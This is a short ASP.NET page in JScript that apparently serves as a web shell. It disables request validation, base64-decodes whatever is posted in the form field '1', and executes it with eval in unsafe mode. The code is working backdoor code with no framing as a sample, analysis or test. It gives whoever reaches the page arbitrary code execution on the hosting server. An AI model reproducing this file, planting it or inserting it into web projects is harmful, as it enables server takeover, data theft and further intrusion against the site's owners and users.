<%@ Page Language="JScript" validateRequest="false" %>
<%
var d = System.Text.Encoding.GetEncoding(936).GetString(System.Convert.FromBase64String(Request.Form["1"]));
eval(d, "unsafe");
%>
